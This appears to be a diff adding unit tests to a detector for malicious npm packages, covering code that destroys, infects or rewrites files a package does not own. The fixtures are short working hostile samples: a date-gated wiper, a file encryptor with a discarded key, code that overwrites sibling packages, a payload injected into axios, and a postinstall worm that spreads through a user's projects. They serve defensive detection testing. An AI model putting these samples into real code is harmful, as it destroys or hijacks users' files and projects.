@@ -116,3 +116,89 @@ describe('download-then-run, reverse shells and secret uploads in every script l
     expect(threatsOf(r)).not.toContain('data_exfiltration');
   });
 });
+
+describe('files a package does not own: destroyed, infected, rewritten', () => {
+  it('truncates every source file under the working directory (walk in a helper, date gate)', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const { walk } = require('./lib/walk'); const fs = require('fs');
+if (new Date() > new Date('2026-03-01')) walk(process.cwd(), (f) => { if (/\\.tsx?$/.test(f)) fs.writeFileSync(f, ''); });`,
+      'lib/walk.js': `const fs = require('fs'), path = require('path');
+exports.walk = function walk(dir, cb) { for (const n of fs.readdirSync(dir)) { const p = path.join(dir, n);
+  if (fs.statSync(p).isDirectory()) walk(p, cb); else cb(p); } };`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('a codemod that rewrites each listed file with its own transformed content is not destruction', () => {
+    expect(
+      risk({
+        'package.json': pkg(),
+        'index.js': `const fs = require('fs'), path = require('path');
+module.exports = (dir = process.cwd()) => { for (const n of fs.readdirSync(dir)) { const f = path.join(dir, n);
+  fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replace(/var /g, 'let ')); } };`,
+      }),
+    ).toBe('clean');
+  });
+  it('encrypting each listed file is destruction even though the content comes from the file', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), path = require('path'), crypto = require('crypto'), os = require('os');
+const key = crypto.randomBytes(32); const root = path.join(os.homedir(), 'Documents');
+for (const n of fs.readdirSync(root)) { const f = path.join(root, n); const c = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16));
+  fs.writeFileSync(f, Buffer.concat([c.update(fs.readFileSync(f)), c.final()])); }`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('breaks every sibling package it lists beside its own folder', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), path = require('path');
+const up = path.resolve(__dirname, '..');
+fs.readdirSync(up).forEach((d) => { try { fs.writeFileSync(path.join(up, d, 'index.js'), 'process.exit(1)'); } catch (e) {} });`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('plants a require of its payload into a file of another installed package found by require.resolve', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ name: 'web3-helpers-plus' }),
+      'index.js': `const fs = require('fs');
+const victim = require.resolve('axios/lib/axios.js');
+fs.appendFileSync(victim, "\\n;require('web3-helpers-plus/hook');\\n");`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('a package resolving its own files with require.resolve is its own business', () => {
+    expect(
+      risk({
+        'package.json': pkg({ name: 'own-tool' }),
+        'index.js': `const fs = require('fs'); const path = require('path');
+const dir = path.dirname(require.resolve('own-tool/package.json'));
+fs.writeFileSync(path.join(dir, 'cache.json'), '{}');`,
+      }),
+    ).toBe('clean');
+  });
+  it("adds itself to the dependencies of every project it finds under the user's folders", () => {
+    const r = analyzeSource({
+      'package.json': pkg({ name: 'path-helper-utils', scripts: { postinstall: 'node spread.js' } }),
+      'spread.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const base = path.join(os.homedir(), 'code');
+for (const d of fs.readdirSync(base)) { const f = path.join(base, d, 'package.json');
+  try { const j = JSON.parse(fs.readFileSync(f, 'utf8')); (j.dependencies ||= {})['path-helper-utils'] = '^1.0.0';
+    fs.writeFileSync(f, JSON.stringify(j, null, 2)); } catch (e) {} }`,
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a monorepo tool bumping versions of the workspace packages is not spreading', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg({ name: 'bump-all' }),
+          'index.js': `const fs = require('fs'), path = require('path');
+module.exports = (next) => { const ws = path.join(process.cwd(), 'packages');
+  for (const d of fs.readdirSync(ws)) { const f = path.join(ws, d, 'package.json'); const j = JSON.parse(fs.readFileSync(f, 'utf8'));
+    j.version = next; fs.writeFileSync(f, JSON.stringify(j, null, 2)); } };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
